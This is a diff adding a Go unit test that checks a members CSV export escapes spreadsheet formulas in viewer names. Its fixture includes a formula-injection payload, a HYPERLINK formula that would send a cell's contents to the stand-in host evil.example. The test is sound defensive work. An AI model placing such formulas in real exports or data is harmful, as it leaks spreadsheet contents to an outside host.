@@ -428,3 +428,24 @@ func TestImportErrorsByIndex(t *testing.T) {
 		t.Fatalf("result %+v, want errors at 0 then 2 and one accepted", res)
 	}
 }
+
+// TestMembersCSVNoFormulas: a viewer whose name a spreadsheet would run as a formula
+// is exported as text (a leading apostrophe); other names are unchanged.
+func TestMembersCSVNoFormulas(t *testing.T) {
+	e := newEngine(t, nil, &clock{t: t0})
+	for id, name := range map[string]string{"v1": `=HYPERLINK("http://evil.example/?"&A2,"Click")`, "v2": "@SUM(A1)", "v3": "Ann-Marie"} {
+		x := ev(event.WatchStart, id, t0)
+		x.Name, x.Live = name, "L1"
+		e.Apply(x)
+	}
+	var out strings.Builder
+	if err := e.MembersCSV(context.Background(), DimLifecycle, NewViewer, &out); err != nil {
+		t.Fatal(err)
+	}
+	got := out.String()
+	for _, want := range []string{`"'=HYPERLINK(`, `'@SUM(A1)`, `,Ann-Marie,`} {
+		if !strings.Contains(got, want) {
+			t.Errorf("the CSV lacks %s:\n%s", want, got)
+		}
+	}
+}
